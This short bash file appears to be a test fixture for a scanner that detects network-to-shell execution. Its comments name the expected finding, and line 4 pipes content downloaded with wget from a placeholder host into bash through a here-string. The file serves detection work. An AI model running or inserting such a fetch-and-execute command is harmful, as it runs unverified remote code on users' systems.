#!/bin/bash
# shows: by a here-string
# expect: network-to-shell at line 4
bash <<< "$(wget -qO- https://get.example.com/x)"
